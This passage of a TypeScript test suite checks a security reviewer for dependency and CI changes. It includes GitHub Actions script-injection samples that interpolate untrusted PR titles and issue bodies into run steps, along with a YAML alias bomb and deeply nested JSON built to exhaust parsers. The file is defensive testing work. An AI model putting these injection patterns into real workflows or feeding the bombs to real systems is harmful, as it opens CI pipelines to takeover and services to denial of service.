    ['list', lines('on: [push]'), lines('on: [push, pull_request_target]'), 1],
    ['items', lines('on:', '  - push'), lines('on:', '  - push', '  - pull_request_target'), 3],
    ['value', lines('on: push'), lines('on: pull_request_target'), 1],
  ])('tells of pull_request_target: %s', async (_name, before, after, line) => {
    const rest = 'jobs:\n';
    expect(await told(edit(CI, before + rest, after + rest))).toEqual([`warn privileged-trigger ${CI}:${line}`]);
    expect(await told(bare(edit(CI, before + rest, after + rest)))).toEqual([`warn privileged-trigger ${CI}:${line}`]);
  });

  it('tells of secrets that are handed on and of machines of one’s own', async () => {
    const call = (uses: string, ...more: readonly string[]) => lines('jobs:', '  a:', `    uses: ${uses}`, ...more);
    const given = (uses: string) => edit(CI, call(uses), call(uses, '    secrets: inherit'));
    expect(await told(given(`acme/a/.github/workflows/b.yml@${SHA}`))).toEqual([`warn secrets-inherit ${CI}:4`]);
    expect(await told(given('./.github/workflows/b.yml'))).toEqual([`info secrets-inherit ${CI}:4`]);
    const hosted = job(BASE);
    expect(await told(edit(CI, hosted, hosted.replace('ubuntu-latest', '[self-hosted, linux]')))).toEqual([
      `warn self-hosted-runner ${CI}:5`,
    ]);
    expect(await told(edit(CI, hosted, hosted.replace('ubuntu-latest', 'ubuntu-24.04')))).toEqual([]);
  });

  it('tells of text of strangers in scripts', async () => {
    const title = `\${{ github.event.pull_request.title }}`;
    const inside = (...steps: readonly string[]) => edit(CI, job(BASE), job(BASE, ...steps));
    expect(await told(inside(`      - run: echo "${title}"`))).toEqual([`warn script-injection ${CI}:8`]);
    expect(await told(inside('      - run: |', '          set -e', `          echo "${title}"`))).toEqual([
      `warn script-injection ${CI}:10`,
    ]);
    expect(await told(inside('      - run: a', '        env:', `          TITLE: ${title}`))).toEqual([]);
    expect(await told(inside(`      - if: contains(github.event.pull_request.title, 'x')`, '        run: a'))).toEqual(
      [],
    );
    expect(await told(inside(`      - run: echo "\${{ github.event.pull_request.number }}"`))).toEqual([]);
    const issues = (step: string) => lines('on: issues', 'jobs:', '  a:', '    steps:', step);
    expect(
      await told(edit(CI, issues('      - run: a'), issues(`      - run: echo \${{ github.event.issue.body }}`))),
    ).toEqual([`error script-injection ${CI}:5`]);
  });
});

describe('hostile files', () => {
  const deep = `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}\n`;
  const bomb = `a: &a [1]\n${Array.from({ length: 200 }, (_, index) => `b${index}: &b${index} [*a,*a,*a]`).join('\n')}\n`;
  const wide = `${'"a": "^1.0.0", '.repeat(6_000)}\n`;

  it.each([
    'package.json',
    'package-lock.json',
    'yarn.lock',
    'pnpm-lock.yaml',
    'Cargo.lock',
    'Cargo.toml',
    'go.mod',
    'pyproject.toml',
    'pom.xml',
    'composer.lock',
    '.github/workflows/a.yml',
    'Dockerfile',
    '.npmrc',
    'setup.py',
  ])('ends in time: %s', async (path) => {
    for (const text of [
      deep,
      bomb,
      wide,
      '{"dependencies": {',
      '\0\0\n',
      `${' '.repeat(30_000)}x\n`,
      '- '.repeat(10_000),
    ]) {
      const spent = processorClock();
      await findingsOf(edit(path, 'x\n', `x\n${text}`));
      expect(spent()).toBeLessThan(RUNAWAY_MILLISECONDS);
    }
  });

  it('reads carriage returns, a byte order mark and keys that are there twice', async () => {
    const crlf = (text: string) => `\u{FEFF}${text.replaceAll('\n', '\r\n')}`;
    const files = edit(
      'package.json',
      crlf(npm()),
      crlf(npm('    "left-pad": "^1.3.0",', '    "left-pad": "github:x/left-pad",')),
    );
    expect(await told(files)).toContain('warn source-dependency package.json:5');
    expect(await told(edit('requirements.txt', crlf('a==1\n'), crlf('a\n')))).toEqual([
      'warn widened-range requirements.txt:1',
    ]);
  });
});
